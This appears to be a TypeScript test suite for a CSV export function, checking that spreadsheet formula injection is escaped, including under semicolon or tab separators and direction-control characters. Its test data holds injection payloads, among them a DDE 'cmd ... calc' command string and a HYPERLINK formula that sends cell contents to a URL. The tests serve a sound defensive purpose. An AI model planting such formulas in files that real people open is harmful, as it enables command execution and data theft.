import { stringify } from 'csv-stringify/sync';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { withoutDirections } from '#contract/values/text-direction.ts';
import { csvText } from './csv.ts';

const titled = (...titles: string[]) => titles.map((title) => ({ title }));

/** Parses CSV by RFC 4180, independently of the library that wrote it. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let quoted = false;
  for (let at = text.charCodeAt(0) === 0xfeff ? 1 : 0; at < text.length; at += 1) {
    const one = text[at] ?? '';
    if (quoted && one === '"' && text[at + 1] === '"') {
      cell += '"';
      at += 1;
    } else if (one === '"') quoted = !quoted;
    else if (!quoted && (one === ',' || one === '\n')) {
      rows.at(-1)?.push(cell);
      cell = '';
      if (one === '\n') rows.push([]);
    } else if (quoted || one !== '\r') cell += one;
  }
  return rows.slice(0, -1);
}

const openings = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
const hidings = ['', ' ', '\t', '\r', '\n', '\u00a0', '\u200b', '\ufeff', '\u202e', '\u0000', '  \t'];
const bodies = ['1+1', "cmd|' /C calc'!A0", 'HYPERLINK("https://example.org?"&A1)'];
const payloads = openings.flatMap((opening) =>
  hidings.flatMap((hiding) => bodies.map((body) => `${hiding}${opening}${body}`)),
);
const isLive = (cell: string) => openings.includes(cell.replace(/^[\s\p{Cf}\p{Cc}]+/u, '').charAt(0));

test('none of 264 formulas in each text column is active, and no number is changed', () => {
  const amounts = payloads.map((_, index) => (index % 2 === 0 ? -1 : 1) * (index + 0.05));
  const rows = payloads.map((payload, index) => [payload, amounts[index] ?? 0, payload, 'after']);
  const [, ...read] = readCsv(csvText(titled('One', 'Amount', 'Two', 'Three'), rows));
  expect(read).toHaveLength(payloads.length);
  const live = read.flatMap((row) => [row[0] ?? '', row[2] ?? '']).filter(isLive);
  const changed = read.filter((row, index) => row[1] !== String(amounts[index]) || row[3] !== 'after');
  // Control: every input is an active formula.
  expect(payloads.filter(isLive)).toHaveLength(payloads.length);
  console.log(
    `${payloads.length} formulas × 2 columns, ${live.length} active, ${changed.length} numbers changed`,
  );
  expect([live, changed]).toEqual([[], []]);
});

/** A semicolon before a formula. */
const afterSemicolon = /;(?=[\s\p{Cf}]*[=+\-@＝＋－＠])/gu;

test('no formula is active in a spreadsheet that separates cells by semicolons or tabs', () => {
  for (const payload of payloads)
    for (const separator of [';', '; ', ';;', '\t', 'a;b;']) {
      const text = `x${separator}${payload}`;
      const line = csvText(titled('A'), [['first', text, 'last']]).split('\r\n')[1] ?? '';
      // Quotes count only at the start of a cell, so one in the middle protects nothing.
      for (const cell of line.split(/[;\t]/).slice(1)) expect(isLive(cell.replace(/^"/, ''))).toBe(false);
      if (text.includes(';')) expect(line).toMatch(/^first,".*",last$/s);
    }
});

test('escapes titles too', () => {
  expect(readCsv(csvText(titled('=1', 'Net'), []))).toEqual([["'=1", 'Net']]);
});

test('preserves any text, except invisible characters at its ends, and those that turn its direction', () => {
  fc.assert(
    fc.property(fc.array(fc.tuple(fc.string({ unit: 'grapheme' }), fc.integer())), (cells) => {
      const read = readCsv(csvText(titled('Text', 'Number'), cells)).slice(1);
      for (const [index, [text, number]] of cells.entries()) {
        const [written = '', amount] = read[index] ?? [];
        expect(amount).toBe(String(number));
        const plain = withoutDirections(text)
          .replaceAll(/[\p{Cc}\p{Zl}\p{Zp}]+/gu, ' ')
          .replace(/^[\s\p{Cf}]+/u, '')
          .trimEnd()
          .replaceAll(afterSemicolon, ";'");
        expect([plain, `'${plain}`]).toContain(written);
        expect(isLive(written)).toBe(false);
      }
    }),
  );
});

test.each([...'\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069'])(
  'no cell turns the direction of those after it: %j',
  (turn) => {
    const cells = ['A', `${turn}B${turn}C${turn}`, `;${turn}=1`, 12.5];
    expect(readCsv(csvText(titled('1', '2', '3', '4'), [cells]))[1]).toEqual(['A', 'BC', ";'=1", '12.5']);
  },
);

test('writes every cell as csv-stringify writes it', () => {
  // In addition to any text: combinations of characters that decide about quotes, apostrophes, and removal.
  const text = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.string({ unit: 'binary-ascii' }),
    fc.string({ unit: fc.constantFrom(...'",;\'=+-@＝＋－＠ \t\r\n\u00a0\u200b\ufeff\u2028aé😀') }),
  );
  const cell = fc.oneof({ weight: 3, arbitrary: text }, fc.double(), fc.integer(), fc.constant(null));
  const visible = (any: string): string =>
    withoutDirections(any)
      .replaceAll(/[\p{Cc}\p{Zl}\p{Zp}]+/gu, ' ')
      .replace(/^[\s\p{Cf}]+/u, '')
      .trimEnd()
      .replaceAll(afterSemicolon, ";'");
  fc.assert(
    fc.property(fc.array(fc.array(cell, { minLength: 1, maxLength: 4 })), (rows) => {
      const cleaned = rows.map((row) => row.map((one) => (typeof one === 'string' ? visible(one) : one)));
      const expected = stringify([['Title'], ...cleaned], {
        escape_formulas: true,
        quoted_match: ';',
        record_delimiter: 'windows',
      });
      expect(csvText(titled('Title'), rows)).toBe(`\uFEFF${expected}`);
    }),
    { numRuns: 1_000 },
  );
});
